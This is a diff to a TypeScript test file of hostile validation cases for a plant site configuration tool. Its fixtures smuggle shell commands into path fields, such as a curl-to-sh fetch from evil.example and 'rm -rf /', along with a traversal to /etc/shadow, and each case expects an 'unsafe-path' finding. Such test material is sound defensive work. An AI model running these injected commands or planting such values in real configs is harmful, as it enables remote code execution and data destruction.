@@ -68,11 +68,11 @@ const siteEntry = (site: unknown = haSite()) => ({ name: 'plant-7/site.json', me
 const linkOf = (payload: unknown) => `#share=${Buffer.from(deflateRawSync(utf8(JSON.stringify(payload)))).toString('base64url')}`;
 const shareCase = (id: string, fragment: () => string, expect: HostileOutcome): HostileCase => ({ id, class: 'share link', input: { kind: 'share-link', fragment }, expect });
 
-const registry = { host: 'registry.plant.example', username: 'u', password: '', caFile: '', certFile: '', keyFile: '', insecureSkipVerify: false };
+const registry = { host: 'registry.plant.example', username: 'u', password: '', caFile: '', certFile: '', keyFile: '', caPem: '', certPem: '', keyPem: '', insecureSkipVerify: false };
 
 export const HOSTILE_CASES: HostileCase[] = [
   // Root commands through values the provider pastes into shell lines.
-  siteJson('images-path-command', 'root command', (s) => Object.assign(s.airGap, { importLocalImages: true, imagesPath: '/opt/x; curl http://evil.example/x|sh #' }), { finding: 'unsafe-path' }),
+  siteJson('images-path-command', 'root command', (s) => Object.assign(s.airGap, { imageSource: 'archives', imagesPath: '/opt/x; curl http://evil.example/x|sh #' }), { finding: 'unsafe-path' }),
   siteJson('install-device-command', 'root command', (s) => (s.os.install.device = '/dev/sda; rm -rf / #'), { finding: 'unsafe-path' }),
   siteJson('registry-ca-relative', 'root command', (s) => s.airGap.registryConfigs.push({ ...registry, caFile: '../../etc/shadow' }), { finding: 'unsafe-path' }),
   cloudConfig('local-images-path-command', '  import_local_images: true\n  local_images_path: "/opt/x; curl http://evil.example/x|sh #"\n', { finding: 'unsafe-path' }),
